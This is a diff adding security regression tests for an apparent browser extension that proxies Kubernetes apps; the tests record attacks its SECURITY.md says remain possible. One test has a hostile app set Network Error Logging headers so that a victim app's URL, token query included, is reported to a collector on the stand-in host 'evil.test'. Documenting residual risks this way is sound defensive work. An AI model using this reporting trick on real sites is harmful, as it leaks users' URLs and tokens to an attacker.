@@ -1,17 +1,24 @@
 import type { Page } from 'puppeteer';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { WebSocketServer } from 'ws';
 import { importKubeconfig } from '../browser/harness/page-actions.ts';
 import { waitFor } from '../browser/harness/wait-for.ts';
+import { startApp } from '../cluster/apps/app.ts';
+import { addWorkload } from '../cluster/workload.ts';
 import { navigateTo } from './attacker-origins.ts';
 import { type Fixture, startFixture } from './fixture.ts';
-import { responseQuery } from './scriptable-server.ts';
+import { respondAsQuery, responseQuery } from './scriptable-server.ts';
 
 /** What SECURITY.md says remains possible. A test here that fails means that something was fixed: remove it there, too. */
 
 let fixture: Fixture;
 
 beforeAll(async () => {
-  fixture = await startFixture({ hasAccessToAllHosts: false });
+  fixture = await startFixture({
+    hasAccessToAllHosts: false,
+    storage: { mode: 'passphrase', passphrase: 'correct horse battery staple' },
+    args: ['--short-reporting-delay'],
+  });
 });
 afterAll(() => fixture?.stop());
 afterEach(() => fixture.closeTabs());
@@ -113,3 +120,60 @@ contexts: [{name: as-jane, context: {cluster: c, user: u}}]`,
     expect(fixture.signedRequests(mark)).toHaveLength(1);
   });
 });
+
+describe('an app', () => {
+  it('has the URLs of all apps of its origin reported by Network Error Logging, queries included', async () => {
+    const allowed = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' };
+    const collector = fixture.attackerUrl('evil.test') + responseQuery({ headers: allowed });
+    const reports = JSON.stringify({ group: 'g', max_age: 3600, endpoints: [{ url: collector }] });
+    const logging = JSON.stringify({ report_to: 'g', max_age: 3600, success_fraction: 1 });
+    const one = await fixture.open(fixture.hostileApp);
+    await one.evaluate((url) => fetch(url), responseQuery({ headers: { 'Report-To': reports, NEL: logging } }));
+    const mark = newMark();
+    await fixture.open(`${fixture.victimApp}?token=${mark}`);
+    await waitFor(() => fixture.https.bodies.some((body) => body.includes(`webapp/proxy/?token=${mark}`)));
+  });
+
+  // The last test, because it leaves the vault locked.
+  it('keeps a socket that was open when the vault was locked', async () => {
+    const sockets = new WebSocketServer({ noServer: true });
+    const app = await startApp('socket', {
+      '': {
+        handleRequest: respondAsQuery,
+        setUpServer: (server) =>
+          void server.on('upgrade', (request, socket, head) =>
+            sockets.handleUpgrade(request, socket, head, (opened) => opened.on('message', (data) => opened.send(data))),
+          ),
+      },
+    });
+    try {
+      const ports = [{ name: '', port: 80, targetPort: 8080, loopbackPort: app.ports[''] ?? 0 }];
+      await addWorkload(fixture.cluster, { namespace: 'shop', name: 'socket', ports });
+      const page = await fixture.open(`${fixture.origin}/api/v1/namespaces/shop/services/socket/proxy/`);
+      const echo = (text: string) => page.evaluate(sendToSocket, text);
+      expect(await echo('before')).toBe('before');
+      await fixture.chromium.sendMessage('lock');
+      expect(await page.evaluate(async () => (await fetch('?after')).status)).toBe(403);
+      expect(await echo('after')).toBe('after');
+    } finally {
+      for (const socket of sockets.clients) socket.terminate();
+      await app.stop();
+    }
+  });
+});
+
+/** Sends a text to the page's only socket, and resolves to the answer. */
+function sendToSocket(text: string): Promise<string> {
+  const page = globalThis as unknown as { socket?: Promise<WebSocket> };
+  page.socket ??= new Promise((resolve) => {
+    const socket = new WebSocket(location.href.replace('https', 'wss'));
+    socket.onopen = () => resolve(socket);
+  });
+  return page.socket.then(
+    (socket) =>
+      new Promise((resolve) => {
+        socket.onmessage = async ({ data }) => resolve(await new Response(data).text());
+        socket.send(text);
+      }),
+  );
+}
